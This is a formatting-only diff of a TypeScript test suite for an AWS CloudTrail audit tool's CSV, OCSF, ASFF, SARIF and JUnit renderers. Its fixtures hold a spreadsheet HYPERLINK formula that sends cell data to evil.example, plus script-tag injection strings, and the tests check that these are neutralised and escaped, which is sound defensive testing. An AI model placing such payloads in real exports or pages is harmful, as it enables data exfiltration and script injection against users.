@@ -1,6 +1,14 @@
 import Ajv, { type AnySchema } from 'ajv';
 import addFormats from 'ajv-formats';
-import { STATUSES, SEVERITIES, type Finding, type FrameworkMap, type Results, type Severity, type Status } from '../../../src/model/findings';
+import {
+  STATUSES,
+  SEVERITIES,
+  type Finding,
+  type FrameworkMap,
+  type Results,
+  type Severity,
+  type Status,
+} from '../../../src/model/findings';
 import { builtInChecks } from '../../../checks';
 import { FRAMEWORK_FILES } from '../../../checks/frameworks';
 import { MACHINE_FORMATS, toAsff, toCsv, toJunit, toOcsf, toSarif } from '../../../src/render/formats';
@@ -14,11 +22,14 @@ import sarifSchema from './schemas/sarif.schema.json';
 const ACCOUNT_A = '111111111111';
 const ACCOUNT_B = '222222222222';
 const HOSTILE_NAME = `Prod <script>alert('x')</script> & "Co"`;
-const HOSTILE_MESSAGE = 'GetBucketPolicy failed: <script>alert(1)</script> & friends, "quoted"\nsecond line\u0001\u0008\uD800 end';
+const HOSTILE_MESSAGE =
+  'GetBucketPolicy failed: <script>alert(1)</script> & friends, "quoted"\nsecond line\u0001\u0008\uD800 end';
 const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click here")';
 const CIS = { 'cis-3.0': ['3.1'], 'aws-securityhub': ['CloudTrail.1'] };
 
-function finding(overrides: Partial<Finding> & Pick<Finding, 'id' | 'checkId' | 'status' | 'severity' | 'accountId'>): Finding {
+function finding(
+  overrides: Partial<Finding> & Pick<Finding, 'id' | 'checkId' | 'status' | 'severity' | 'accountId'>,
+): Finding {
   return {
     title: `Title of ${overrides.checkId}`,
     region: 'us-east-1',
@@ -37,10 +48,46 @@ const LONG_TITLE = `${'T'.repeat(300)}`;
 const LONG_MESSAGE = `${'m'.repeat(1022)}😀😀 tail`;
 
 const FINDINGS: Finding[] = [
-  finding({ id: 'f-pass', checkId: 'cloudtrail-bucket-not-public', status: 'PASS', severity: 'critical', accountId: ACCOUNT_A, resourceType: 'AWS::S3::Bucket', resourceArn: 'arn:aws:s3:::central-logs' }),
-  finding({ id: 'f-fail', checkId: 'cloudtrail-multi-region', status: 'FAIL', severity: 'high', accountId: ACCOUNT_A, resourceType: 'AWS::::Account', resourceArn: `arn:aws:::${ACCOUNT_A}`, message: FORMULA }),
-  finding({ id: 'f-error', checkId: 'cloudtrail-bucket-restricted', status: 'ERROR', severity: 'medium', accountId: ACCOUNT_B, resourceType: 'AWS::S3::Bucket', resourceArn: 'arn:aws-us-gov:s3:::gov-logs', region: 'us-gov-west-1', message: HOSTILE_MESSAGE }),
-  finding({ id: 'f-na', checkId: 'cloudtrail-log-file-validation', status: 'NOT_APPLICABLE', severity: 'low', accountId: ACCOUNT_B, resourceType: 'AWS::::Account', resourceArn: `arn:aws:::${ACCOUNT_B}`, message: 'account owns no trail' }),
+  finding({
+    id: 'f-pass',
+    checkId: 'cloudtrail-bucket-not-public',
+    status: 'PASS',
+    severity: 'critical',
+    accountId: ACCOUNT_A,
+    resourceType: 'AWS::S3::Bucket',
+    resourceArn: 'arn:aws:s3:::central-logs',
+  }),
+  finding({
+    id: 'f-fail',
+    checkId: 'cloudtrail-multi-region',
+    status: 'FAIL',
+    severity: 'high',
+    accountId: ACCOUNT_A,
+    resourceType: 'AWS::::Account',
+    resourceArn: `arn:aws:::${ACCOUNT_A}`,
+    message: FORMULA,
+  }),
+  finding({
+    id: 'f-error',
+    checkId: 'cloudtrail-bucket-restricted',
+    status: 'ERROR',
+    severity: 'medium',
+    accountId: ACCOUNT_B,
+    resourceType: 'AWS::S3::Bucket',
+    resourceArn: 'arn:aws-us-gov:s3:::gov-logs',
+    region: 'us-gov-west-1',
+    message: HOSTILE_MESSAGE,
+  }),
+  finding({
+    id: 'f-na',
+    checkId: 'cloudtrail-log-file-validation',
+    status: 'NOT_APPLICABLE',
+    severity: 'low',
+    accountId: ACCOUNT_B,
+    resourceType: 'AWS::::Account',
+    resourceArn: `arn:aws:::${ACCOUNT_B}`,
+    message: 'account owns no trail',
+  }),
   finding({
     id: 'f-waived',
     checkId: 'custom-log-group-retention',
@@ -53,14 +100,31 @@ const FINDINGS: Finding[] = [
     title: LONG_TITLE,
     message: LONG_MESSAGE,
     frameworks: manyFrameworks,
-    remediation: { text: 'R'.repeat(600), cli: 'aws logs put-retention-policy --log-group-name trail-logs --retention-in-days 365' },
-    waiver: { id: 'W-7', reason: 'archived elsewhere', approver: 'cso@example.com', expires: '2099-12-31', originalStatus: 'FAIL' },
+    remediation: {
+      text: 'R'.repeat(600),
+      cli: 'aws logs put-retention-policy --log-group-name trail-logs --retention-in-days 365',
+    },
+    waiver: {
+      id: 'W-7',
+      reason: 'archived elsewhere',
+      approver: 'cso@example.com',
+      expires: '2099-12-31',
+      originalStatus: 'FAIL',
+    },
   }),
-  finding({ id: 'f-fail-low', checkId: 'cloudtrail-log-file-validation', status: 'FAIL', severity: 'low', accountId: ACCOUNT_A, message: 'validation, disabled "really"' }),
+  finding({
+    id: 'f-fail-low',
+    checkId: 'cloudtrail-log-file-validation',
+    status: 'FAIL',
+    severity: 'low',
+    accountId: ACCOUNT_A,
+    message: 'validation, disabled "really"',
+  }),
 ];
 
 function summaryOf(findings: Finding[]): Results['summary'] {
-  const zero = <K extends string>(keys: readonly K[]) => Object.fromEntries(keys.map((k) => [k, 0])) as Record<K, number>;
+  const zero = <K extends string>(keys: readonly K[]) =>
+    Object.fromEntries(keys.map((k) => [k, 0])) as Record<K, number>;
   const byStatus = zero(STATUSES);
   const failingBySeverity = zero(SEVERITIES);
   const byCheck: Record<string, Record<Status, number>> = {};
@@ -118,7 +182,10 @@ function schemaErrors(schema: AnySchema, value: unknown): string[] {
 type Json = Record<string, unknown>;
 const asRecords = (value: unknown): Json[] => value as Json[];
 const get = (value: unknown, ...keys: (string | number)[]): unknown =>
-  keys.reduce<unknown>((v, k) => (v !== null && typeof v === 'object' ? (v as Record<string | number, unknown>)[k] : undefined), value);
+  keys.reduce<unknown>(
+    (v, k) => (v !== null && typeof v === 'object' ? (v as Record<string | number, unknown>)[k] : undefined),
+    value,
+  );
 
 /** A tiny RFC 4180 parser: CRLF record ends, quoted fields with "" for a quote. Throws on anything else. */
 function parseCsv(text: string): string[][] {
@@ -175,11 +242,16 @@ interface XmlNode {
 const ENTITY = /&(amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);/g;
 const NAMED: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
 const decode = (s: string): string =>
-  s.replace(ENTITY, (_m, e: string) => NAMED[e] ?? String.fromCodePoint(e.startsWith('#x') ? parseInt(e.slice(2), 16) : parseInt(e.slice(1), 10)));
+  s.replace(
+    ENTITY,
+    (_m, e: string) =>
+      NAMED[e] ?? String.fromCodePoint(e.startsWith('#x') ? parseInt(e.slice(2), 16) : parseInt(e.slice(1), 10)),
+  );
 
 /** A strict, minimal XML reader: one root, balanced tags, quoted attributes, only known entities. */
 function parseXml(xml: string): XmlNode {
-  if (/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u.test(xml)) throw new Error('character not allowed in XML 1.0');
+  if (/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u.test(xml))
+    throw new Error('character not allowed in XML 1.0');
   const body = xml.replace(/^<\?xml version="1\.0" encoding="UTF-8"\?>\n/, '');
   const checkText = (t: string): void => {
     if (t.replace(ENTITY, '').includes('&')) throw new Error(`bare & in ${JSON.stringify(t.slice(0, 60))}`);
@@ -227,7 +299,10 @@ function parseXml(xml: string): XmlNode {
   return element;
 }
 
-const all = (node: XmlNode, name: string): XmlNode[] => [...(node.name === name ? [node] : []), ...node.children.flatMap((c) => all(c, name))];
+const all = (node: XmlNode, name: string): XmlNode[] => [
+  ...(node.name === name ? [node] : []),
+  ...node.children.flatMap((c) => all(c, name)),
+];
 
 // ---------------------------------------------------------------- tests
 
@@ -246,7 +321,20 @@ describe('CSV', () => {
   it('is RFC 4180: CRLF line ends, a header, one record per finding, equal field counts', () => {
     expect(csv.endsWith('\r\n')).toBe(true);
     expect(csv.replace(/\r\n/g, '').replace(/"[^"]*"/g, '')).not.toMatch(/[\r\n]/);
-    expect(records[0]).toEqual(['id', 'status', 'severity', 'checkId', 'title', 'accountId', 'region', 'resourceType', 'resourceArn', 'message', 'remediation', 'frameworks']);
+    expect(records[0]).toEqual([
+      'id',
+      'status',
+      'severity',
+      'checkId',
+      'title',
+      'accountId',
+      'region',
+      'resourceType',
+      'resourceArn',
+      'message',
+      'remediation',
+      'frameworks',
+    ]);
     expect(records).toHaveLength(FINDINGS.length + 1);
     for (const r of records) expect(r).toHaveLength(12);
   });
@@ -256,7 +344,17 @@ describe('CSV', () => {
     FINDINGS.forEach((f, i) => {
       const row = rows[i] ?? [];
       const unguard = (s: string | undefined) => (s && /^'[=+\-@\t\r]/.test(s) ? s.slice(1) : s);
-      expect(row.slice(0, 9)).toEqual([f.id, f.status, f.severity, f.checkId, f.title, f.accountId, f.region, f.resourceType, f.resourceArn]);
+      expect(row.slice(0, 9)).toEqual([
+        f.id,
+        f.status,
+        f.severity,
+        f.checkId,
+        f.title,
+        f.accountId,
+        f.region,
+        f.resourceType,
+        f.resourceArn,
+      ]);
       expect(unguard(row[9])).toBe(f.message);
       expect(row[10]).toBe(f.remediation.cli);
     });
@@ -266,7 +364,21 @@ describe('CSV', () => {
 
   it.each(['=', '+', '-', '@', '\t', '\r'])('neutralises a field starting with %j', (start) => {
     const payload = `${start}HYPERLINK("https://evil.example","x")`;
-    const [, row] = parseCsv(toCsv(resultsWith([finding({ id: 'x', checkId: 'c', status: 'FAIL', severity: 'low', accountId: ACCOUNT_A, message: payload, title: `${start}SUM(1)` })])));
+    const [, row] = parseCsv(
+      toCsv(
+        resultsWith([
+          finding({
+            id: 'x',
+            checkId: 'c',
+            status: 'FAIL',
+            severity: 'low',
+            accountId: ACCOUNT_A,
+            message: payload,
+            title: `${start}SUM(1)`,
+          }),
+        ]),
+      ),
+    );
     expect(row?.[9]).toBe(`'${payload}`);
     expect(row?.[4]).toBe(`'${start}SUM(1)`);
   });
@@ -288,14 +400,18 @@ describe('OCSF', () => {
 
   it('has a schema that rejects what OCSF forbids (time in seconds, a missing finding_info.uid)', () => {
     const [first] = events;
-    expect(schemaErrors(ocsfSchema, [{ ...first, time: Math.floor(Date.parse(RESULTS.run.finishedAt) / 1000) }])).not.toEqual([]);
+    expect(
+      schemaErrors(ocsfSchema, [{ ...first, time: Math.floor(Date.parse(RESULTS.run.finishedAt) / 1000) }]),
+    ).not.toEqual([]);
     expect(schemaErrors(ocsfSchema, [{ ...first, finding_info: { title: 't' } }])).not.toEqual([]);
   });
 
   it('keeps the outcome in status_code and the workflow state in status_id', () => {
     expect(events.map((e) => e.status_code)).toEqual(FINDINGS.map((f) => f.status));
     expect(events.map((e) => e.status_id)).toEqual(FINDINGS.map((f) => (f.status === 'WAIVED' ? 3 : 1)));
-    expect(events.map((e) => e.severity_id)).toEqual(FINDINGS.map((f) => ({ informational: 1, low: 2, medium: 3, high: 4, critical: 5 })[f.severity]));
+    expect(events.map((e) => e.severity_id)).toEqual(
+      FINDINGS.map((f) => ({ informational: 1, low: 2, medium: 3, high: 4, critical: 5 })[f.severity]),
+    );
   });
 
   it('carries time in epoch milliseconds, the cloud account, the resource and the evidence', () => {
@@ -304,8 +420,19 @@ describe('OCSF', () => {
     expect(e?.time_dt).toBe(RESULTS.run.finishedAt);
     expect(get(e, 'finding_info', 'uid')).toBe('f-error');
     expect(get(e, 'metadata', 'event_code')).toBe('cloudtrail-bucket-restricted');
-    expect(get(e, 'cloud', 'account')).toEqual({ uid: ACCOUNT_B, type: 'AWS Account', type_id: 10, name: 'Log Archive' });
-    expect(get(e, 'resources', 0)).toEqual({ uid: 'arn:aws-us-gov:s3:::gov-logs', type: 'AWS::S3::Bucket', region: 'us-gov-west-1', cloud_partition: 'aws-us-gov', data: { checked: true } });
+    expect(get(e, 'cloud', 'account')).toEqual({
+      uid: ACCOUNT_B,
+      type: 'AWS Account',
+      type_id: 10,
+      name: 'Log Archive',
+    });
+    expect(get(e, 'resources', 0)).toEqual({
+      uid: 'arn:aws-us-gov:s3:::gov-logs',
+      type: 'AWS::S3::Bucket',
+      region: 'us-gov-west-1',
+      cloud_partition: 'aws-us-gov',
+      data: { checked: true },
+    });
     expect(get(e, 'unmapped', 'compliance')).toEqual(CIS);
     expect(get(events[4], 'unmapped', 'waiver', 'id')).toBe('W-7');
   });
@@ -325,21 +452,46 @@ describe('ASFF', () => {
   });
 
   it('maps statuses to compliance and workflow', () => {
-    expect(findings.map((f) => get(f, 'Compliance', 'Status'))).toEqual(['PASSED', 'FAILED', 'WARNING', 'NOT_AVAILABLE', 'FAILED', 'FAILED']);
-    expect(findings.map((f) => get(f, 'Workflow', 'Status'))).toEqual(['NEW', 'NEW', 'NEW', 'NEW', 'SUPPRESSED', 'NEW']);
-    const unknownWaiver = resultsWith([finding({ id: 'w', checkId: 'c', status: 'WAIVED', severity: 'low', accountId: ACCOUNT_A })]);
+    expect(findings.map((f) => get(f, 'Compliance', 'Status'))).toEqual([
+      'PASSED',
+      'FAILED',
+      'WARNING',
+      'NOT_AVAILABLE',
+      'FAILED',
+      'FAILED',
+    ]);
+    expect(findings.map((f) => get(f, 'Workflow', 'Status'))).toEqual([
+      'NEW',
+      'NEW',
+      'NEW',
+      'NEW',
+      'SUPPRESSED',
+      'NEW',
+    ]);
+    const unknownWaiver = resultsWith([
+      finding({ id: 'w', checkId: 'c', status: 'WAIVED', severity: 'low', accountId: ACCOUNT_A }),
+    ]);
     expect(get(toAsff(unknownWaiver)[0], 'Compliance', 'Status')).toBe('NOT_AVAILABLE');
   });
 
   it('names resources, partitions and the product the way Security Hub does', () => {
-    expect(get(findings[1], 'Resources', 0)).toEqual({ Type: 'AwsAccount', Id: `AWS::::Account:${ACCOUNT_A}`, Partition: 'aws', Region: 'us-east-1' });
+    expect(get(findings[1], 'Resources', 0)).toEqual({
+      Type: 'AwsAccount',
+      Id: `AWS::::Account:${ACCOUNT_A}`,
+      Partition: 'aws',
+      Region: 'us-east-1',
+    });
     expect(get(findings[2], 'Resources', 0, 'Partition')).toBe('aws-us-gov');
-    expect(get(findings[2], 'ProductArn')).toBe(`arn:aws-us-gov:securityhub:us-gov-west-1:${ACCOUNT_B}:product/${ACCOUNT_B}/default`);
+    expect(get(findings[2], 'ProductArn')).toBe(
+      `arn:aws-us-gov:securityhub:us-gov-west-1:${ACCOUNT_B}:product/${ACCOUNT_B}/default`,
+    );
     expect(get(findings[4], 'Resources', 0, 'Type')).toBe('Other');
     expect(get(findings[0], 'Severity')).toEqual({ Label: 'CRITICAL', Original: 'critical' });
     expect(get(findings[0], 'GeneratorId')).toBe('cloudtrail-bucket-not-public');
     const custom = asRecords(toAsff(RESULTS, { productArn: 'arn:aws:securityhub:us-east-1::product/acme/trailaudit' }));
-    expect(new Set(custom.map((f) => f.ProductArn))).toEqual(new Set(['arn:aws:securityhub:us-east-1::product/acme/trailaudit']));
+    expect(new Set(custom.map((f) => f.ProductArn))).toEqual(
+      new Set(['arn:aws:securityhub:us-east-1::product/acme/trailaudit']),
+    );
   });
 
   it('truncates long text with an ellipsis and caps the requirement list at 32', () => {
@@ -353,14 +505,19 @@ describe('ASFF', () => {
     expect(description).not.toMatch(/[\uD800-\uDBFF]…$/); // no half of an emoji left behind
     expect(String(get(waived, 'Remediation', 'Recommendation', 'Text'))).toHaveLength(512);
     expect(get(waived, 'Compliance', 'RelatedRequirements')).toHaveLength(32);
-    expect(get(findings[1], 'Remediation', 'Recommendation', 'Text')).toBe(`Fix it. Run: ${byId('f-fail').remediation.cli}`);
+    expect(get(findings[1], 'Remediation', 'Recommendation', 'Text')).toBe(
+      `Fix it. Run: ${byId('f-fail').remediation.cli}`,
+    );
   });
 
   describe('finding types and related requirements come from the framework files (checks/frameworks/*.json)', () => {
     const STANDARDS = 'Software and Configuration Checks/Industry and Regulatory Standards';
 
     it('types a finding by the asffClassifier of each framework file it maps to', () => {
-      expect(get(findings[0], 'Types')).toEqual([`${STANDARDS}/CIS AWS Foundations Benchmark`, `${STANDARDS}/AWS Foundational Security Best Practices`]);
+      expect(get(findings[0], 'Types')).toEqual([
+        `${STANDARDS}/CIS AWS Foundations Benchmark`,
+        `${STANDARDS}/AWS Foundational Security Best Practices`,
+      ]);
       expect(get(findings[0], 'FindingProviderFields', 'Types')).toEqual(get(findings[0], 'Types'));
       expect(get(findings[4], 'Types')).toEqual([`${STANDARDS}/NIST 800-53 Controls (USA)`]);
       for (const framework of FRAMEWORK_FILES) {
@@ -370,7 +527,9 @@ describe('ASFF', () => {
     });
 
     it('names each classifier once, and falls back to the bare category for frameworks no file names', () => {
-      expect(findingTypes({ 'cis-1.2': ['2.1'], 'cis-3.0': ['3.1'], 'aws-config': ['multi-region-cloudtrail-enabled'] })).toEqual([`${STANDARDS}/CIS AWS Foundations Benchmark`]);
+      expect(
+        findingTypes({ 'cis-1.2': ['2.1'], 'cis-3.0': ['3.1'], 'aws-config': ['multi-region-cloudtrail-enabled'] }),
+      ).toEqual([`${STANDARDS}/CIS AWS Foundations Benchmark`]);
       expect(findingTypes({ internal: ['LOG-7'], 'aws-best-practice': ['centralized-logging'] })).toEqual([STANDARDS]);
       expect(findingTypes({})).toEqual([STANDARDS]);
     });
@@ -378,12 +537,35 @@ describe('ASFF', () => {
     it("lists a built-in check's requirements in the framework files' order", () => {
       const multiRegion = builtInChecks.find((c) => c.meta.id === 'cloudtrail-multi-region');
       if (!multiRegion) throw new Error('cloudtrail-multi-region is not built in');
-      const expected = FRAMEWORK_FILES.flatMap((f) => f.requirements.filter((r) => r.checks.includes('cloudtrail-multi-region')).map((r) => `${f.id} ${r.id}`));
+      const expected = FRAMEWORK_FILES.flatMap((f) =>
+        f.requirements.filter((r) => r.checks.includes('cloudtrail-multi-region')).map((r) => `${f.id} ${r.id}`),
+      );
       expect(expected).toHaveLength(21);
       expect(relatedRequirements(multiRegion.meta.frameworks)).toEqual(expected);
-      const [asff] = toAsff(resultsWith([finding({ id: 'm', checkId: multiRegion.meta.id, status: 'FAIL', severity: 'high', accountId: ACCOUNT_A, frameworks: multiRegion.meta.frameworks })]));
+      const [asff] = toAsff(
+        resultsWith([
+          finding({
+            id: 'm',
+            checkId: multiRegion.meta.id,
+            status: 'FAIL',
+            severity: 'high',
+            accountId: ACCOUNT_A,
+            frameworks: multiRegion.meta.frameworks,
+          }),
+        ]),
+      );
       expect(get(asff, 'Compliance', 'RelatedRequirements')).toEqual(expected);
-      expect(get(asff, 'Types')).toEqual(['CIS AWS Foundations Benchmark', 'AWS Foundational Security Best Practices', 'PCI-DSS', 'SOC 2', 'ISO 27001 Controls', 'NIST 800-53 Controls (USA)', 'HIPAA Controls (USA)'].map((c) => `${STANDARDS}/${c}`));
+      expect(get(asff, 'Types')).toEqual(
+        [
+          'CIS AWS Foundations Benchmark',
+          'AWS Foundational Security Best Practices',
+          'PCI-DSS',
+          'SOC 2',
+          'ISO 27001 Controls',
+          'NIST 800-53 Controls (USA)',
+          'HIPAA Controls (USA)',
+        ].map((c) => `${STANDARDS}/${c}`),
+      );
     });
   });
 });
@@ -400,24 +582,42 @@ describe('SARIF', () => {
   });
 
   it('has a schema that enforces §3.27.10 (a kind other than "fail" takes level "none")', () => {
-    const broken = { version: '2.1.0', runs: [{ tool: { driver: { name: 't' } }, results: [{ kind: 'review', level: 'warning', message: { text: 'm' } }] }] };
+    const broken = {
+      version: '2.1.0',
+      runs: [
+        { tool: { driver: { name: 't' } }, results: [{ kind: 'review', level: 'warning', message: { text: 'm' } }] },
+      ],
+    };
     expect(schemaErrors(sarifSchema, broken)).not.toEqual([]);
   });
 
   it('reports FAIL, ERROR and (suppressed) WAIVED findings only, each pointing at its rule', () => {
-    expect(results.map((r) => get(r, 'partialFingerprints', 'findingId'))).toEqual(['f-fail', 'f-error', 'f-waived', 'f-fail-low']);
+    expect(results.map((r) => get(r, 'partialFingerprints', 'findingId'))).toEqual([
+      'f-fail',
+      'f-error',
+      'f-waived',
+      'f-fail-low',
+    ]);
     for (const r of results) expect(rules[Number(r.ruleIndex)]?.id).toBe(r.ruleId);
     expect(results.map((r) => r.level)).toEqual(['error', 'warning', 'note', 'note']);
     expect(results.every((r) => r.kind === 'fail')).toBe(true);
     expect(get(results[2], 'suppressions', 0)).toMatchObject({ kind: 'external', status: 'accepted' });
     expect(get(results[0], 'suppressions')).toBeUndefined();
-    expect(get(results[1], 'locations', 0, 'logicalLocations', 0)).toEqual({ fullyQualifiedName: 'arn:aws-us-gov:s3:::gov-logs', kind: 'resource' });
+    expect(get(results[1], 'locations', 0, 'logicalLocations', 0)).toEqual({
+      fullyQualifiedName: 'arn:aws-us-gov:s3:::gov-logs',
+      kind: 'resource',
+    });
     expect(get(run, 'properties', 'byStatus')).toEqual(RESULTS.summary.byStatus);
   });
 
   it('describes every check as a rule with a GitHub security-severity', () => {
     expect(rules.map((r) => r.id)).toEqual(RESULTS.checks.map((c) => c.id));
-    const severity = (id: string) => get(rules.find((r) => r.id === id), 'properties', 'security-severity');
+    const severity = (id: string) =>
+      get(
+        rules.find((r) => r.id === id),
+        'properties',
+        'security-severity',
+      );
     expect(severity('cloudtrail-bucket-not-public')).toBe('9.5');
     expect(severity('cloudtrail-multi-region')).toBe('8.0');
     expect(severity('custom-log-group-retention')).toBeUndefined();
@@ -432,7 +632,14 @@ describe('JUnit XML', () => {
 
   it('is well-formed, with totals that match its elements', () => {
     expect(root.name).toBe('testsuites');
-    expect(root.attrs).toEqual({ name: 'trailaudit', tests: '6', failures: '2', errors: '1', skipped: '2', time: '2.250' });
+    expect(root.attrs).toEqual({
+      name: 'trailaudit',
+      tests: '6',
+      failures: '2',
+      errors: '1',
+      skipped: '2',
+      time: '2.250',
+    });
     expect(cases).toHaveLength(Number(root.attrs.tests));
     expect(all(root, 'failure')).toHaveLength(Number(root.attrs.failures));
     expect(all(root, 'error')).toHaveLength(Number(root.attrs.errors));
@@ -445,11 +652,20 @@ describe('JUnit XML', () => {
   });
 
   it('has one suite per account, one case per finding named by check and resource', () => {
-    expect(suites.map((s) => s.attrs.name)).toEqual([`account ${ACCOUNT_A}`, `account ${ACCOUNT_B}`, 'account 333333333333']);
-    expect(cases.map((c) => `${c.attrs.classname} ${c.attrs.name}`)).toContain(`cloudtrail-multi-region arn:aws:::${ACCOUNT_A}`);
+    expect(suites.map((s) => s.attrs.name)).toEqual([
+      `account ${ACCOUNT_A}`,
+      `account ${ACCOUNT_B}`,
+      'account 333333333333',
+    ]);
+    expect(cases.map((c) => `${c.attrs.classname} ${c.attrs.name}`)).toContain(
+      `cloudtrail-multi-region arn:aws:::${ACCOUNT_A}`,
+    );
     const skippedAccount = suites[2];
     expect(skippedAccount?.attrs.tests).toBe('0');
-    expect(all(skippedAccount ?? root, 'property').map((p) => p.attrs.value)).toEqual(['skipped', 'account is suspended']);
+    expect(all(skippedAccount ?? root, 'property').map((p) => p.attrs.value)).toEqual([
+      'skipped',
+      'account is suspended',
+    ]);
   });
 
   it('escapes a hostile account name and message, and drops characters XML cannot carry', () => {
@@ -458,7 +674,9 @@ describe('JUnit XML', () => {
     const nameProperty = all(root, 'property').find((p) => p.attrs.name === 'accountName');
     expect(nameProperty?.attrs.value).toBe(HOSTILE_NAME);
     const error = all(root, 'error')[0];
-    expect(error?.attrs.message).toBe('GetBucketPolicy failed: <script>alert(1)</script> & friends, "quoted"\nsecond line end');
+    expect(error?.attrs.message).toBe(
+      'GetBucketPolicy failed: <script>alert(1)</script> & friends, "quoted"\nsecond line end',
+    );
     expect(error?.text.startsWith('GetBucketPolicy failed: <script>')).toBe(true);
     expect(all(root, 'skipped').map((s) => s.attrs.message)).toContain('not applicable: account owns no trail');
   });
@@ -481,9 +699,9 @@ describe('the machine format registry', () => {
     }
     expect(MACHINE_FORMATS.csv.render(RESULTS)).toBe(toCsv(RESULTS));
     expect(MACHINE_FORMATS.junit.render(RESULTS)).toBe(toJunit(RESULTS));
-    expect(JSON.parse(MACHINE_FORMATS.asff.render(RESULTS, { productArn: 'arn:aws:securityhub:us-east-1::product/a/b' }))).toEqual(
-      toAsff(RESULTS, { productArn: 'arn:aws:securityhub:us-east-1::product/a/b' }),
-    );
+    expect(
+      JSON.parse(MACHINE_FORMATS.asff.render(RESULTS, { productArn: 'arn:aws:securityhub:us-east-1::product/a/b' })),
+    ).toEqual(toAsff(RESULTS, { productArn: 'arn:aws:securityhub:us-east-1::product/a/b' }));
   });
 
   it('renders an empty run', () => {
